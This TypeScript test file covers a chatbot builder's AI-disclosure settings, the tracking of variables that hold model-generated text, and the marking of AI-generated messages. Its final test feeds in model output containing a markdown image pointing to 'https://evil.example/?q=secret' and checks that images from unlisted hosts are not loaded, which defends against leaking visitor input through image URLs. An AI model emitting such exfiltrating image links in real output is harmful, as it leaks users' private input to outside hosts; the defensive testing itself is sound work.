import { ok } from "@banter/protocol";
import { describe, expect, it } from "vitest";
import { ask, say, testBot, type TestBot } from "../testing/test-bot.ts";
import type { EffectPorts } from "../effects/effect-ports.ts";
import { testPorts } from "../testing/test-ports.ts";
import { talkTo } from "../testing/talk.ts";
import type { CompiledBot } from "../bot/compiled-bot.ts";
import { findDisclosure, inspectDisclosure } from "./disclosure.ts";

const model = {
  type: "openai",
  options: {
    action: "Create chat completion",
    messages: [{ role: "user", content: "Hi" }],
    responseMapping: [{ item: "Message content", variableId: "v-answer" }],
  },
};
const withModel = { groups: { g: [model, say("{{answer}}")] }, variables: { answer: null } };
const link = (typebotId: string) => ({ type: "Typebot link", options: { typebotId } });

/** What visitors of the first bot are told. */
function disclosure(first: TestBot, ...others: readonly TestBot[]) {
  const bots = [first, ...others].map((bot) => testBot(bot));
  const [bot] = bots;
  if (bot === undefined) throw new Error("There is a first bot");
  return findDisclosure(bot, (id) => bots.find((each) => each.id === id));
}

describe("visitors are told", () => {
  it.each<[string, TestBot, ReturnType<typeof findDisclosure>]>([
    ["of a model", withModel, {}],
    [
      "in the owner's words",
      { ...withModel, settings: { disclosure: " A robot writes. " } },
      { text: "A robot writes." },
    ],
    ["nothing if the owner says so", { ...withModel, settings: { disclosure: false } }, undefined],
    ["nothing by a bot without a model", { groups: { g: [say("Hi")] } }, undefined],
    ["of a model behind an HTTP request", { groups: { g: [] }, settings: { disclosure: true } }, {}],
    [
      "nothing of an action that is skipped",
      { groups: { g: [{ ...model, options: { action: "Create speech" } }] } },
      undefined,
    ],
  ])("%s", (_, bot, expected) => {
    expect(disclosure(bot)).toEqual(expected);
  });

  it("of the models of linked bots, also of bots that link each other", () => {
    const first = { id: "a", groups: { g: [link("b")] } };
    const second = { id: "b", groups: { g: [link("a"), link("c")] } };
    expect(disclosure(first, second, { id: "c", ...withModel })).toEqual({});
    expect(disclosure(first, second, { id: "c", groups: { g: [] } })).toBeUndefined();
    const hidden = { ...first, settings: { disclosure: false } };
    expect(disclosure(hidden, second, { id: "c", ...withModel })).toBeUndefined();
  });
});

it("validation remarks on a bot that hides its model", () => {
  const { definition } = testBot({ ...withModel, settings: { disclosure: false } });
  expect(inspectDisclosure(definition)).toMatchObject([{ severity: "warning" }]);
  expect(testBot({ ...withModel, settings: { disclosure: false } }).diagnostics).toHaveLength(1);
  expect(inspectDisclosure(testBot({ ...withModel }).definition)).toEqual([]);
  expect(
    inspectDisclosure(testBot({ groups: { g: [] }, settings: { disclosure: false } }).definition),
  ).toEqual([]);
});

function aiThatSays(text: string): EffectPorts["ai"] {
  return { ...testPorts().ai, text: async () => ok(text) };
}

describe("a model's text", () => {
  it("is in the variables that a block saves it in, and in those set from them", () => {
    const set = (variable: string, options: object) => ({
      type: "Set variable",
      options: { variableId: `v-${variable}`, ...options },
    });
    const bot = testBot({
      groups: {
        g: [
          ask("text input", "question"),
          set("summary", { expressionToEvaluate: "{{shout}} of {{question}}" }),
          set("shout", { expressionToEvaluate: "{{answer}}.toUpperCase()", isCode: true }),
          set("own", { expressionToEvaluate: "{{question}}" }),
          set("list", { type: "Append value(s)", item: "{{answer}}" }),
          set("list", { type: "Pop", saveItemInVariableId: "v-last" }),
          model,
        ],
      },
      variables: {
        answer: null,
        question: null,
        summary: null,
        shout: null,
        own: null,
        list: [],
        last: null,
      },
    });
    expect([...bot.modelVariables].toSorted()).toEqual(["answer", "last", "list", "shout", "summary"]);
  });

  it("is in the variables that code sets from them, and that code of its tools sets", () => {
    const tool = {
      type: "function",
      name: "note",
      description: "Notes",
      parameters: [{ type: "string", name: "to", required: true }],
      code: "setVariable('noted', to)",
    };
    const code = (content: string) => ({ type: "Code", options: { content } });
    const bot = testBot({
      groups: {
        g: [
          { ...model, options: { ...model.options, tools: [tool] } },
          code('setVariable("shouted", {{answer}}.toUpperCase()); setVariable("unknown", {{answer}})'),
          code('setVariable("own", 1)'),
          { type: "Set variable", options: { variableId: "v-all", type: "Transcript" } },
        ],
      },
      variables: { answer: null, noted: null, shouted: null, own: null, all: null },
    });
    expect([...bot.modelVariables].toSorted()).toEqual(["all", "answer", "noted", "shouted"]);
  });

  it("marks the messages that show it", async () => {
    const bot: CompiledBot = testBot({
      groups: {
        g: [say("Hello {{name}}"), model, say("I think: {{answer}}"), say("{{= {{answer}}.length =}}")],
      },
      variables: { answer: null, name: "Ada" },
    });
    const { turn } = await talkTo(bot, {}, { ai: aiThatSays("It depends.") });
    expect(turn.reply.messages.map(({ content }) => content?.["isAiGenerated"])).toEqual([
      undefined,
      true,
      true,
    ]);
  });

  it("loads no image of another host when it is shown again, as its address could tell what the visitor wrote", async () => {
    const images =
      "![one](https://evil.example/?q=secret) ![two](https://Shop.example/two.png) ![three](/three.png)";
    const bot: CompiledBot = testBot({
      groups: { g: [model, say("I think: {{answer}}"), say("{{answer}}"), say("{{copy}}")] },
      variables: { answer: null, copy: images },
      settings: { general: { allowedImageHosts: ["shop.example"] } },
    });
    const { turn } = await talkTo(bot, {}, { ai: aiThatSays(images) });
    const kinds = turn.reply.messages.map(({ content }) => JSON.stringify(content).match(/"(?:a|img)"/g));
    const asked = ['"a"', '"img"', '"img"'];
    expect(kinds).toEqual([asked, asked, ['"img"', '"img"', '"img"']]);
    expect(JSON.stringify(turn.reply.messages[0])).toContain('"url":"https://evil.example/?q=secret"');
  });
});
